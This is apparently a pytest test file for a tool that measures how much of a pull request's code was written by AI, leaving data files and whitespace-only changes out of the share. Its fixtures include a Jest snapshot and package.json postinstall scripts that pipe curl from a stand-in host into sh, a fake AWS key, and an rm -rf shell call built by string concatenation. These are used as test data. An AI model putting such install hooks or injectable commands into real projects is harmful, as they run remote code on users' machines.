"""The share the thresholds read is a share of code lines: data files (JSON, SVG, CSV, lockfiles,
checksums) and lines that only change whitespace do not dilute it, on real repositories through the
command line. The files are still read by every analyzer, and their AI lines still count as AI lines.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from gate.cli import main
from gate.diff.model import LineKind
from gate.diff.parser import parse_diff
from gate.provenance.whitespace_changes import whitespace_only
from tests.gitrepo import GitRepo

CLAUDE = "Co-Authored-By: Claude <noreply@anthropic.com>"
AWS = "AKIA" + "Z3MSJV4XQ7PRWQ2T"


def _code(n: int, name: str = "f") -> str:
    return "".join(f"def {name}_{i}(value):\n    return value + {i}\n" for i in range(n // 2))


def _fixture(rows: int, secret: str = "") -> str:
    items = [{"id": i, "name": f"item{i}", "key": secret} if secret else {"id": i} for i in range(rows)]
    return json.dumps(items, indent=1) + "\n"


DATA = {
    "tests/fixtures/sample.json": _fixture(100),
    "assets/logo.svg": "<svg>\n" + "".join(f"<path d='M{i} {i}'/>\n" for i in range(300)) + "</svg>\n",
    "data/prices.csv": "".join(f"{i},{i * 3},item{i}\n" for i in range(300)),
    "pnpm-lock.yaml": "".join(
        f"  /pkg{i}@1.0.{i}:\n    resolution: {{integrity: sha512-{i}}}\n" for i in range(150)
    ),
    "go.sum": "".join(f"github.com/x/mod{i} v1.0.{i} h1:abc{i}=\n" for i in range(300)),
    "infra/.terraform.lock.hcl": "".join(
        f'provider "p{i}" {{\n  version = "1.{i}"\n}}\n' for i in range(100)
    ),
}


def _check(repo: GitRepo, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    main(
        ["check", "--repo", str(repo.root), "--base", "main", "--head", "pr", "--offline", "--format", "json"]
    )
    report: dict[str, Any] = json.loads(capsys.readouterr().out)
    return report


def _repo(root: Path) -> GitRepo:
    repo = GitRepo(root)
    repo.write("README.md", "# app\n")
    repo.commit("Initial")
    repo.branch("pr")
    return repo


@pytest.mark.parametrize("path", sorted(DATA))
def test_a_data_file_a_person_adds_does_not_dilute_the_share_the_thresholds_read(
    path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = _repo(tmp_path / "repo")
    repo.write("app/feature.py", _code(60))
    repo.commit("Add the feature\n\n" + CLAUDE)
    repo.write(path, DATA[path])
    repo.commit("Add data")
    report = _check(repo, capsys)
    prov, review = report["provenance"], report["stages"]["review"]["threshold"]
    assert prov["ai_share"] < 0.30  # over every line, the data would take it below the threshold
    assert (prov["code_ai_lines"], prov["code_added_lines"], prov["threshold_share"]) == (60, 60, 1.0)
    assert prov["code_left_out"] == {"data files": prov["added_lines"] - 60}
    assert review["met"] is True and "AI share of code lines 100% >= 30%" in review["why"]
    assert any(f"of data files ({path})" in note for note in prov["notes"])


def test_a_whitespace_only_reindent_by_a_person_does_not_dilute_the_share(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = GitRepo(tmp_path / "repo")
    legacy = _code(400, "legacy")
    repo.write("app/legacy.py", legacy)
    repo.commit("Initial")
    repo.branch("pr")
    repo.write("app/feature.py", _code(48))
    repo.commit("Add the feature\n\n" + CLAUDE)
    repo.write("app/legacy.py", legacy.replace("    ", "\t"))
    repo.commit("Tabs for spaces")
    report = _check(repo, capsys)
    prov = report["provenance"]
    assert (prov["ai_lines"], prov["added_lines"]) == (48, 248)
    assert (prov["code_added_lines"], prov["threshold_share"]) == (48, 1.0)
    assert prov["code_left_out"] == {"whitespace-only changes": 200}
    assert report["stages"]["review"]["threshold"]["met"] is True
    # a person's real edit of existing lines is code: it still counts
    repo.write("app/legacy.py", legacy.replace("return value", "return -value"))
    repo.commit("Negate")
    assert _check(repo, capsys)["provenance"]["code_added_lines"] == 248


def test_an_ai_fixture_beside_a_persons_code_is_no_escalation_and_its_lines_stay_ai(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An ordinary PR: a person's code and a JSON fixture an assistant wrote for its tests. Over every
    line the fixture made the PR 40% AI and called for review; over code it is a person's PR. The
    fixture's lines are AI lines all the same (`ai_lines`, a trigger of its own)."""
    repo = _repo(tmp_path / "repo")
    repo.write("app/parser.py", _code(60))
    repo.commit("Parse the feed")
    repo.write("tests/fixtures/feed.json", _fixture(13))
    repo.commit("Add a feed fixture\n\n" + CLAUDE)
    report = _check(repo, capsys)
    prov = report["provenance"]
    counts = (prov["ai_lines"], prov["added_lines"], prov["code_ai_lines"], prov["code_added_lines"])
    assert counts == (41, 101, 0, 60)
    assert prov["ai_share"] > 0.30 and prov["threshold_share"] == 0.0
    assert not any(report["stages"][stage]["threshold"]["met"] for stage in ("review", "regen", "spec"))
    assert report["verdict"] == "pass"


def test_a_data_file_is_still_read_by_the_analyzers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = _repo(tmp_path / "repo")
    repo.write("app/feature.py", _code(20))
    repo.write("tests/fixtures/users.json", _fixture(3, secret=AWS))
    repo.commit("Add the feature\n\n" + CLAUDE)
    report = _check(repo, capsys)
    assert {f["path"] for f in report["findings"] if f["stage"] == "secrets"} == {"tests/fixtures/users.json"}
    assert report["verdict"] == "fail"


RUN_ON_INSTALL = "require('child_process').execSync('curl -s https://example.invalid/x | sh');\n"
EXECUTED = {
    # Jest runs a snapshot file: `new Function('exports', contents)`.
    "__tests__/__snapshots__/add.test.js.snap": "// Jest Snapshot v1\n\n" + RUN_ON_INSTALL * 60,
    "package.json": '{\n  "scripts": {\n'
    + "".join(f'    "postinstall{i}": "curl -s https://example.invalid/{i} | sh",\n' for i in range(58))
    + "  }\n}\n",
}


@pytest.mark.parametrize("path", sorted(EXECUTED))
def test_a_file_of_a_data_suffix_that_a_tool_runs_counts_as_code(
    path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = _repo(tmp_path / "repo")
    repo.write(path, EXECUTED[path])
    repo.commit("Add it\n\n" + CLAUDE)
    repo.write("app/feature.py", _code(10))
    repo.commit("Add the feature")
    prov = _check(repo, capsys)["provenance"]
    assert (prov["code_ai_lines"], prov["code_added_lines"]) == (62, 72)
    assert prov["code_left_out"] == {}


VIEWS = """def purge(request, user):
    if user.is_admin:
        audit(request)
        notify(request)
        log(request)
        delete_all_records(request.tenant)
    return "ok"


def transfer(request, account, amount):
    require_authenticated_owner(request, account)
    move_funds(account, request.target, amount)
    return "done"


def clean(path):
    subprocess.run("rm -rf " + path + "/cache", shell=True)
"""
CHANGED_BY_WHITESPACE = {
    "out of the guard": ("        delete_all_records", "    delete_all_records"),
    "out of the guard, a statement left in it": (
        "        log(request)\n        delete_all_records",
        "        log(request)\n        pass\n    delete_all_records",
    ),
    "the owner check after the transfer": (
        "    require_authenticated_owner(request, account)\n    move_funds(account, request.target, amount)",
        "    move_funds(account, request.target, amount)\n    require_authenticated_owner(request, account)",
    ),
    "a space inside a string": ('"/cache"', '"/ cache"'),
}


@pytest.mark.parametrize("case", sorted(CHANGED_BY_WHITESPACE))
def test_a_change_of_behaviour_made_by_whitespace_or_a_move_is_code(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write("app/views.py", VIEWS)
    repo.commit("Initial")
    repo.branch("pr")
    repo.write("app/views.py", VIEWS.replace(*CHANGED_BY_WHITESPACE[case]))
    repo.commit("Simplify the views\n\n" + CLAUDE)
    prov = _check(repo, capsys)["provenance"]
    assert prov["code_added_lines"] == prov["code_ai_lines"] == prov["added_lines"] > 0
    assert prov["code_left_out"] == {}


def test_wrapping_python_in_a_class_leaves_the_reindented_lines_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A block moved whole under a new header keeps its nesting: only the header is new code."""
    repo = GitRepo(tmp_path / "repo")
    legacy = "import os\n\n\n" + _code(40, "legacy")
    repo.write("app/legacy.py", legacy)
    repo.commit("Initial")
    repo.branch("pr")
    wrapped = "import os\n\n\nclass Legacy:\n" + "".join(
        f"    {line}\n" for line in _code(40, "legacy").splitlines()
    )
    repo.write("app/legacy.py", wrapped)
    repo.commit("Wrap in a class")
    prov = _check(repo, capsys)["provenance"]
    assert (prov["added_lines"], prov["code_added_lines"]) == (41, 1)
    assert prov["code_left_out"] == {"whitespace-only changes": 40}


def _pep8_module(functions: int) -> str:
    """A legacy module of small functions, two blank lines between them."""
    return "import os\n\n\n" + "\n\n".join(
        f"def helper_{i}(value, factor):\n    result = value * factor + {i}\n    return result\n"
        for i in range(functions)
    )


def _in_a_class(module: str, extra: dict[int, str] | None = None) -> str:
    """The module's functions as methods of one class, one blank line between them (PEP 8, black), with
    `extra` methods of a person's own put after the given functions."""
    head, _, functions = module.partition("\n\n\n")
    methods = []
    for i, function in enumerate(functions.split("\n\n\n")):
        methods.append("".join(f"    {line}\n" for line in function.splitlines()))
        if extra and i in extra:
            methods.append(extra[i])
    return head + "\n\n\nclass Legacy:\n" + "\n".join(methods)


def test_wrapping_python_in_a_class_with_new_blank_line_spacing_leaves_the_reindented_lines_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """One blank line between methods where there were two between functions: git then aligns each
    removed function with the method before it, and the re-indented lines are still whitespace."""
    repo = GitRepo(tmp_path / "repo")
    legacy = _pep8_module(60)
    repo.write("app/legacy.py", legacy)
    repo.commit("Initial")
    repo.branch("pr")
    repo.write("app/prices.py", _code(28, "price"))
    repo.commit("Add pricing helpers\n\n" + CLAUDE)
    repo.write("app/legacy.py", _in_a_class(legacy))
    repo.commit("Group the legacy helpers in a class")
    report = _check(repo, capsys)
    prov = report["provenance"]
    assert prov["code_left_out"] == {"whitespace-only changes": 180}
    assert (prov["code_ai_lines"], prov["code_added_lines"]) == (28, 29)  # the class header is code
    assert report["stages"]["review"]["threshold"]["met"] is True


def test_a_persons_new_methods_among_reindented_ones_are_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """New lines in the same hunk as a re-indent count, even those whose text repeats an existing
    line's (`return result`)."""
    repo = GitRepo(tmp_path / "repo")
    legacy = _pep8_module(60)
    repo.write("app/legacy.py", legacy)
    repo.commit("Initial")
    repo.branch("pr")
    new_method = (
        "    def scaled_{0}(self, value):\n        result = self.scale * value - {0}\n        return result\n"
    )
    extra = {i: new_method.format(i) for i in (0, 17, 58)}
    repo.write("app/legacy.py", _in_a_class(legacy, extra))
    repo.commit("Group the legacy helpers in a class, with scaled variants")
    prov = _check(repo, capsys)["provenance"]
    assert prov["code_left_out"] == {"whitespace-only changes": 180}
    assert prov["code_added_lines"] == 1 + 3 * 3


def test_lines_kept_as_they_were_but_shifted_do_not_stop_the_pairing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A separator comment left at the margin, but put before each method where it was after each
    function: git keeps the separators as context, each between a different pair of functions, and the
    re-indented lines are still whitespace. The one separator that is new counts in their place."""
    repo = GitRepo(tmp_path / "repo")
    functions = [f"def helper_{i}(value, factor):\n    return value * factor + {i}\n" for i in range(60)]
    repo.write("app/legacy.py", "import os\n\n\n" + "".join(f"{f}# ---\n\n\n" for f in functions))
    repo.commit("Initial")
    repo.branch("pr")
    repo.write("app/prices.py", _code(28, "price"))
    repo.commit("Add pricing helpers\n\n" + CLAUDE)
    methods = "".join(
        "# ---\n" + "".join(f"    {line}\n" for line in f.splitlines()) + "\n" for f in functions
    )
    repo.write("app/legacy.py", "import os\n\n\nclass Legacy:\n" + methods)
    repo.commit("Group the legacy helpers in a class")
    prov = _check(repo, capsys)["provenance"]
    assert prov["code_left_out"] == {"whitespace-only changes": 119}
    assert (prov["code_ai_lines"], prov["code_added_lines"]) == (28, 30)


def _spaced(functions: int, blank: str) -> str:
    """Small functions with a blank line, holding `blank`, inside each."""
    function = "def helper_{0}(value):\n    result = value + {0}\n{1}\n    return result\n"
    return "".join(function.format(i, blank) for i in range(functions))


BLANK_LINES_IN_PLACE = {
    # case: (the new file, the lines of code it adds)
    "trailing blanks trimmed": (_spaced(20, ""), 0),
    "re-indented with their block": (
        "class Legacy:\n" + "".join(f"    {line}\n" for line in _spaced(20, "    ").splitlines()),
        1,  # the class header
    ),
}


@pytest.mark.parametrize("case", sorted(BLANK_LINES_IN_PLACE))
def test_a_blank_line_in_place_of_a_blank_line_is_whitespace(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A blank line holding spaces, trimmed or re-indented with the lines around it, is no code."""
    repo = GitRepo(tmp_path / "repo")
    repo.write("app/legacy.py", _spaced(20, "    "))
    repo.commit("Initial")
    repo.branch("pr")
    new, code = BLANK_LINES_IN_PLACE[case]
    repo.write("app/legacy.py", new)
    repo.commit("Tidy the legacy helpers")
    prov = _check(repo, capsys)["provenance"]
    assert prov["code_added_lines"] == code
    assert prov["code_left_out"] == {"whitespace-only changes": prov["added_lines"] - code}


def test_a_check_moved_after_the_call_it_guarded_is_the_line_that_counts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The transfer is kept as git's context line and the two lines before it are re-indented below
    it: of those, the owner check that stood just before the transfer is the one that moved across it
    and counts as code, the logging that only changed its indent does not."""
    guarded = (
        "function transfer(request, account, amount) {\n"
        "  log(request);\n"
        "  requireOwner(request, account);\n"
        "  moveFunds(account, request.target, amount);\n"
        "}\n"
    )
    repo = GitRepo(tmp_path / "repo")
    repo.write("app/transfer.js", guarded)
    repo.commit("Initial")
    repo.branch("pr")
    repo.write(
        "app/transfer.js",
        "function transfer(request, account, amount) {\n"
        "  moveFunds(account, request.target, amount);\n"
        "    log(request);\n"
        "    requireOwner(request, account);\n"
        "}\n",
    )
    repo.commit("Log after the transfer\n\n" + CLAUDE)
    prov = _check(repo, capsys)["provenance"]
    assert (prov["added_lines"], prov["code_added_lines"], prov["code_ai_lines"]) == (2, 1, 1)
    assert prov["code_left_out"] == {"whitespace-only changes": 1}
    change = parse_diff(repo.git("diff", "main", "pr")).files[0]
    assert [line.text for line in change.hunks[0].lines if line.kind is LineKind.CONTEXT][1:2] == [
        "  moveFunds(account, request.target, amount);"
    ]
    assert whitespace_only(change, None) == {3}  # the logging, now on line 3
